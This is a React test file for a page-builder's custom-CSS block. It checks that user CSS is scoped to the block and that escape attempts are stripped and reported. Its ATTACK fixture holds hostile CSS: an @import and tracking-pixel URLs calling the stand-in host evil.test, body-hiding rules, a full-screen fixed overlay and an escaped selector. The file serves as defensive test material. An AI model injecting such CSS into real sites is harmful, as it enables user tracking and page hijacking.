import { render, screen } from '@testing-library/react';
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import type { BlueprintNode } from '@eventory/domain/blueprint';
import { LOCALES } from '@eventory/domain/locales';
import { catalogue } from '../catalogue.ts';
import { Renderer } from '../renderer/Renderer.tsx';
import { CUSTOM_CSS_TEXTS } from './custom-css-texts.ts';

const styled = (css: string, children: BlueprintNode[] = []): BlueprintNode => ({
  type: 'Page',
  children: [
    { type: 'Text', props: { text: 'outside' } },
    { type: 'CustomCssDiv', id: 'css-1', props: { css }, children },
  ],
});
const text = (value: string): BlueprintNode => ({ type: 'Text', props: { text: value } });
const show = (node: BlueprintNode, mode: 'editor' | 'runtime' = 'runtime') =>
  render(<Renderer node={node} mode={mode} registry={catalogue} locale="en_US" />);

const ATTACK = [
  '@import url("https://evil.test/steal.css");',
  'body { display: none }',
  'html, :root { background: url(https://evil.test/track.png) }',
  '~ p, + div { color: red }',
  '.a { background: url(https://evil.test/pixel.png) }',
  '.b { position: fixed; inset: 0; z-index: 99999 }',
  '\\62 ody { display: none }',
  'p { color: rgb(1, 2, 3) }',
].join('\n');

let warn: ReturnType<typeof vi.spyOn>;
beforeAll(() => import('./CustomCssDiv.tsx'), 30_000);
beforeEach(() => {
  warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
});
afterEach(() => vi.restoreAllMocks());

describe('CustomCssDiv', () => {
  it('styles only its own children: the CSS is scoped to the block', async () => {
    const { container } = show(styled('p { color: rgb(1, 2, 3) } :scope { padding: 7px }', [text('inside')]));
    const inside = await screen.findByText('inside');
    const scope = inside.closest<HTMLElement>('[data-custom-css]')!;
    const css = container.querySelector('style')!.textContent!;
    const selector = `[data-custom-css="${scope.dataset.customCss}"]`;
    expect(css).toBe(`${selector} p{color:rgb(1,2,3)}${selector}{padding:7px}`);
    expect(getComputedStyle(inside).color).toBe('rgb(1, 2, 3)');
    expect(getComputedStyle(screen.getByText('outside')).color).not.toBe('rgb(1, 2, 3)');
    expect(getComputedStyle(scope).padding).toBe('7px');
  });

  it('drops every escape attempt and keeps the rest, warning at runtime', async () => {
    const { container } = show(styled(ATTACK, [text('inside')]));
    const inside = await screen.findByText('inside');
    const css = container.querySelector('style')!.textContent!;
    expect(css).not.toMatch(/evil|@import|fixed|body|html|root|\\/);
    // What is left is harmless inside the contained box: the rest of .b and the p rule.
    expect(css).toMatch(
      /^\[data-custom-css="[^"]+"\] \.b\{inset:0;z-index:99999\}\[data-custom-css="[^"]+"\] p\{color:rgb\(1,2,3\)\}$/,
    );
    expect(getComputedStyle(document.body).display).not.toBe('none');
    expect(getComputedStyle(inside).color).toBe('rgb(1, 2, 3)');
    expect(warn).toHaveBeenCalledWith(expect.stringContaining('CustomCssDiv (css-1)'));
    expect(screen.queryByRole('status')).toBeNull();
  });

  it('lists what was refused and why in editor mode', async () => {
    show(styled(ATTACK), 'editor');
    const report = await screen.findByRole('status');
    expect(report.textContent).toContain('Parts of the CSS were refused and are not applied (9):');
    for (const reason of [
      'import',
      'globalSelector',
      'escapingSelector',
      'foreignUrl',
      'fixedPosition',
      'escapeSequence',
    ] as const)
      expect(report.textContent).toContain(CUSTOM_CSS_TEXTS.en_US[reason]);
    expect(screen.getByText(/Custom CSS box: add blocks inside/)).toBeTruthy();
  });

  it('keeps what is drawn inside a paint- and stacking-contained box', async () => {
    const { container } = show(styled('', [text('inside')]));
    await screen.findByText('inside');
    const box = container.querySelector<HTMLElement>('[data-block="CustomCssDiv"]')!;
    expect(box.className).toMatch(/containment/);
    expect(container.querySelector('style')).toBeNull();
  });

  it('has every custom-CSS text in the six locales with the same placeholders', () => {
    const keys = Object.keys(CUSTOM_CSS_TEXTS.en_US).sort();
    const placeholders = (s: string) => (s.match(/\{\d+\}/g) ?? []).sort();
    for (const locale of LOCALES) {
      expect(Object.keys(CUSTOM_CSS_TEXTS[locale]).sort(), locale).toEqual(keys);
      for (const [key, value] of Object.entries(CUSTOM_CSS_TEXTS[locale])) {
        expect(value.trim(), `${locale}.${key}`).not.toBe('');
        expect(placeholders(value)).toEqual(placeholders(CUSTOM_CSS_TEXTS.en_US[key as 'import']));
      }
    }
  });
});
